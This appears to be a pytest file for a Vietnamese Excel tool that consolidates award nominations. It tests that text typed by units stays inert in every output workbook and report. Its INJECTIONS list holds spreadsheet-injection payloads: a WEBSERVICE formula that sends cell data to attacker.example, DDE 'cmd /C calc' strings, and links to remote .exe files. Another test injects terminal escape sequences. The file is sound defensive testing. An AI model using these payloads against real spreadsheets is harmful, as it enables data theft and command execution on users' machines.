"""What a unit types is data, never a program: no formula or link from a unit's text reaches any
output, error cells and impossible values are findings, nothing is printed raw to the terminal."""
from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from badfile_helpers import read_part, replace_parts, run, unit_sheet
from thidua_xl.intake import read_paths
from thidua_xl.workbook.split import split_master
from workbook_helpers import fill_unit_file, make_master

INJECTIONS = [
    '=WEBSERVICE("http://attacker.example/?q="&C4)',
    '=HYPERLINK("http://attacker.example/x","Bấm vào đây")',
    "{=1+1}",
    "+CMD|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "http://attacker.example/tai-ve.exe",
    r"\\host\share\x.exe",
]


def injected_unit(path: Path, unit: str = "Bệnh viện A") -> Path:
    wb, ws = unit_sheet(unit)
    for i, text in enumerate(INJECTIONS):
        ws.append([i + 1, None, "12/03/1980", "Nam", None, None, "Lao động tiên tiến"])
        cell = ws.cell(ws.max_row, 2)
        cell.value = text
        cell.data_type = "s"  # typed as text by the unit (openpyxl would otherwise store a formula)
        chuc_vu = ws.cell(ws.max_row, 5)
        chuc_vu.value = text
        chuc_vu.data_type = "s"
    wb.save(path)
    return path


def formulas_and_links(path: Path) -> list[str]:
    """Every formula and hyperlink in a workbook's sheets (the tool's own SUMs are allowed by the caller)."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.startswith("xl/worksheets/") or not name.endswith(".xml"):
                if name.startswith("xl/worksheets/_rels/"):
                    found += [m.decode() for m in re.findall(rb'Target="([^"]+)"[^>]*TargetMode="External"', z.read(name))]
                continue
            xml = z.read(name).decode("utf-8")
            found += re.findall(r"<f[^>]*>([^<]*)</f>", xml)
            found += re.findall(r"<hyperlink\b[^>]*>", xml)
    return found


def _unit_formula(f: str) -> bool:
    return any(w in f.upper() for w in ("WEBSERVICE", "HYPERLINK", "CMD", "ATTACKER", "1+1", "HOST"))


def test_nominee_text_stays_text_in_every_workbook_output(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    injected_unit(folder / "A.xlsx")
    master = make_master(tmp_path / "m.xlsx")
    code, _ = run(capsys, "consolidate", folder, "--year", 2024, "--out", tmp_path / "tong-hop.xlsx",
                  "--json", tmp_path / "c.json")
    assert code in (0, 1)
    code, _ = run(capsys, "validate", folder, "--year", 2024, "--out", tmp_path / "kiem-tra.xlsx")
    assert code in (0, 1)
    code, _ = run(capsys, "consolidate", folder, "--year", 2024, "--into", master)
    assert code in (0, 1)
    for out in (tmp_path / "tong-hop.xlsx", tmp_path / "kiem-tra.xlsx", master):
        bad = [f for f in formulas_and_links(out) if _unit_formula(f) or "attacker" in f]
        assert not bad, (out.name, bad)
    # and the text is all there, as typed
    texts = set()
    for out in (tmp_path / "tong-hop.xlsx", tmp_path / "kiem-tra.xlsx"):
        wb = openpyxl.load_workbook(out)
        for ws in wb.worksheets:
            for row in ws.iter_rows(values_only=True):
                texts.update(v for v in row if isinstance(v, str))
    assert set(INJECTIONS) <= texts


def test_collect_writes_a_units_formula_text_as_text(tmp_path, capsys):
    master = make_master(tmp_path / "master.xlsx")
    out = tmp_path / "ve"
    files = {f.stem: f for f in split_master(master, out)}
    rows = [(t, "12/03/1980", "Nam", "", t, "", "Lao động tiên tiến", "") for t in INJECTIONS]
    fill_unit_file(files["BVDK"], rows)
    wb = openpyxl.load_workbook(files["BVDK"])  # typed by the unit as text, as Excel stores '=… or a text cell
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in INJECTIONS:
                    c.data_type = "s"
    wb.save(files["BVDK"])
    for code in ("TTYT-BT", "TTYT-SP", "CDC"):
        files[code].unlink()
    code, text = run(capsys, "collect", out, "--into", master)
    assert code in (0, 1), text
    bad = [f for f in formulas_and_links(master) if _unit_formula(f)]
    assert not bad
    names = read_paths([master]).nominations["ho_ten"].tolist()
    assert sorted(names) == sorted(INJECTIONS)


def test_report_documents_carry_the_text_not_a_field_or_link(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    injected_unit(folder / "A.xlsx")
    code, _text = run(capsys, "report", folder, "--year", 2024, "--out", tmp_path / "vb", "--kind",
                      "bao-cao-tong-ket")
    assert code in (0, 1)
    docs = list((tmp_path / "vb").glob("*.docx"))
    assert docs
    for d in docs:
        with zipfile.ZipFile(d) as z:
            for name in z.namelist():
                if name.endswith(".xml") or name.endswith(".rels"):
                    xml = z.read(name).decode("utf-8")
                    assert "attacker.example" not in xml or ("<w:hyperlink" not in xml and "instrText" not in xml)
                    assert 'TargetMode="External"' not in xml or "attacker" not in xml


def _with_cells(src: Path, dest: Path, cells: bytes) -> Path:
    xml = read_part(src, "xl/worksheets/sheet1.xml").replace(b"</sheetData>", cells + b"</sheetData>")
    return replace_parts(src, dest, {"xl/worksheets/sheet1.xml": xml})


def _base(path: Path) -> Path:
    from badfile_helpers import good_unit

    return good_unit(path)


def test_error_cells_impossible_dates_and_a_megabyte_cell_are_findings(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    base = _base(tmp_path / "base.xlsx")
    _with_cells(base, folder / "loi.xlsx",
                b'<row r="9"><c r="B9" t="e"><v>#REF!</v></c><c r="G9" t="inlineStr"><is><t>GK</t></is></c></row>'
                b'<row r="10"><c r="B10" t="inlineStr"><is><t>Ph\xe1\xba\xa1m V\xc4\x83n \xc4\x90\xc3\xb4ng</t></is></c>'
                b'<c r="C10" t="inlineStr"><is><t>01/01/0001</t></is></c><c r="D10" t="inlineStr"><is><t>Nam</t></is></c>'
                b'<c r="G10" t="inlineStr"><is><t>GK</t></is></c></row>'
                b'<row r="11"><c r="B11" t="inlineStr"><is><t>' + b"Y" * 1_000_000 + b'</t></is></c>'
                b'<c r="G11" t="inlineStr"><is><t>GK</t></is></c></row>')
    code, text = run(capsys, "validate", folder, "--year", 2024, "--json", tmp_path / "v.json")
    assert code == 1
    found = json.loads((tmp_path / "v.json").read_text("utf-8"))["findings"]
    by = {f["code"]: f for f in found}
    assert by["CELL_ERROR"]["file"] == "loi.xlsx" and by["CELL_ERROR"]["row"] == 9 and "#REF!" in by["CELL_ERROR"]["message"]
    assert by["CELL_ERROR"]["severity"] == "error"
    bad_date = [f for f in found if f["code"] == "BAD_DATE" and f["row"] == 10]
    assert bad_date and "01/01/0001" in bad_date[0]["message"]
    long = by["TEXT_TOO_LONG"]
    assert long["row"] == 11 and long["column"] == "Họ và tên" and "1.000.000" in long["message"]
    it = read_paths([folder])
    assert it.nominations["ho_ten"].str.len().max() == 32_767


def test_control_characters_never_reach_the_terminal(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    base = _base(tmp_path / "base.xlsx")
    # _x001B_ is how a workbook stores ESC inside text; \x07 rings the bell, ]0; retitles a terminal
    _with_cells(base, folder / "esc.xlsx",
                b'<row r="9"><c r="B9" t="inlineStr"><is><t>Nguy_x001B_[2J_x001B_]0;pwned_x0007_n</t></is></c>'
                b'<c r="C9" t="inlineStr"><is><t>31/02/1980</t></is></c>'
                b'<c r="G9" t="inlineStr"><is><t>GK_x001B_[31m</t></is></c></row>')
    code, text = run(capsys, "validate", folder, "--year", 2024)
    assert code == 1
    cap = text
    assert "\x1b" not in cap and "\x07" not in cap
    names = read_paths([folder]).nominations["ho_ten"].tolist()
    assert all("\x1b" not in n for n in names)


def test_excel_adapter_writes_a_units_formula_text_as_text_but_keeps_its_own_links():
    from thidua_xl import xl
    from thidua_xl.model import Finding

    block = [[1, t, 1980] for t in INJECTIONS] + [["Nguyễn Văn An", -3, None]]
    out = xl.as_text(block)
    for (_n, typed, _y), (_n2, written, _y2) in zip(block[:-1], out):
        assert written in (typed, "'" + typed)
        assert not (written.startswith(("=", "+", "-", "@", "{")))  # Excel stores these as the text typed
    assert out[-1] == ["Nguyễn Văn An", -3, None]
    rows, _spans = xl.check_table([Finding("MISSING_FIELD", "error", "x", file=None, sheet="BVDK", row=7)],
                                  "ThiDua.xlsm", 2024)
    links = [v for row in rows for v in row if isinstance(v, str) and v.startswith("=HYPERLINK(")]
    assert links and all(x.startswith("=HYPERLINK(") for x in xl.as_text([links])[0])
